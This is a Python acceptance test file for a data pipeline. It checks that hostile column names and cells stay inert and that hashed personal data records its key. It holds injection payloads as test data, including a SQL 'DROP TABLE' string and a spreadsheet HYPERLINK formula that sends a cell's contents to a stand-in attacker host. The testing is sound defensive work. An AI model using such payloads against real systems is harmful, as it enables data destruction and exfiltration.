"""Hostile names and cells are data and nothing else, and every hash can be traced to the key it was made with."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from tests.acceptance import samples
from tests.acceptance.conftest import MakeProduct
from tests.acceptance.daemon import Product
from tests.acceptance.oracle_rules import hashed
from tests.acceptance.test_new_file_type import COUPONS, coupon

KEY = "a-key-of-more-than-16-characters"
FORMULA = '=HYPERLINK("http://thief.example/?"&A1)'
HOSTILE = ('id"; DROP TABLE dim_city; --', "%s", "{key}", "it's a 100 % \\ name", "select", "ünïcode 🛵")


def hostile_type() -> dict[str, Any]:
    """The configuration of a file whose columns and keys have names that would do harm if not quoted."""
    columns = [{"name": name, "dtype": "int", "nullable": name != HOSTILE[0]} for name in HOSTILE]
    return {
        "watcher": {
            "batch": {
                "expected_files": {
                    **COUPONS["watcher"]["batch"]["expected_files"],
                    "odd.csv": {
                        "table": "Dim_Odd",
                        "foreign_keys": {HOSTILE[1]: "cities"},
                        "indexes": [HOSTILE[2]],
                    },
                }
            }
        },
        "schemas": {**COUPONS["schemas"], "odd": {"primary_key": HOSTILE[0], "columns": columns}},
    }


@pytest.fixture(scope="module")
def loaded(make_product: MakeProduct) -> Product:
    product = make_product(**hostile_type())
    product.env["PII_HASH_KEY"] = KEY
    samples.write_master(product.home)
    product.batch("odd.csv", [dict.fromkeys(HOSTILE, 1), {**dict.fromkeys(HOSTILE, 2), "%s": 77}])
    product.batch("coupons.csv", [coupon("GOOD"), coupon(FORMULA), coupon("-1+1", percent=99)])
    product.once(expect=0)
    return product


def test_names_of_columns_are_quoted_and_nothing_more(loaded: Product) -> None:
    (row,) = loaded.rows("SELECT * FROM dim_odd")
    assert [row[name] for name in HOSTILE] == [1] * len(HOSTILE)
    assert loaded.value("SELECT count(*) FROM dim_city") == 2, "it is still there"
    (waits,) = loaded.rows("SELECT rejection_stage, raw_data FROM quarantine WHERE source_file = 'odd.csv'")
    assert waits["rejection_stage"] == "orphan"
    assert waits["raw_data"]["%s"] == "77"


def test_a_formula_is_kept_as_it_was_in_the_table_and_runs_in_no_spreadsheet(loaded: Product) -> None:
    raw = loaded.rows(
        "SELECT raw_data ->> 'coupon_code' AS code FROM quarantine WHERE source_file = 'coupons.csv'"
    )
    assert {row["code"] for row in raw} == {FORMULA, "-1+1"}
    (backup,) = (loaded.home / "data/quarantine/batch").glob("quarantined_*.csv")
    with backup.open(newline="", encoding="utf-8") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_each_file_with_sensitive_columns_names_the_key_that_it_was_hashed_with(loaded: Product) -> None:
    ids = {row["file_name"]: row["pii_key_id"] for row in loaded.file_log()}
    assert ids["coupons.csv"] is not None
    assert ids["coupons.csv"] not in KEY
    assert ids["cities.csv"] is None
    assert len({ids[name] for name in ("customers.csv", "drivers.csv", "agents.csv", "coupons.csv")}) == 1
    assert loaded.value("SELECT value FROM pipeline_meta WHERE key = 'pii_key_id'") == ids["coupons.csv"]
    stored = loaded.value("SELECT recipient FROM dim_coupon WHERE coupon_code = 'GOOD'")
    assert stored == hashed("good@gift.com", KEY)
    assert stored != hashed("good@gift.com", None)
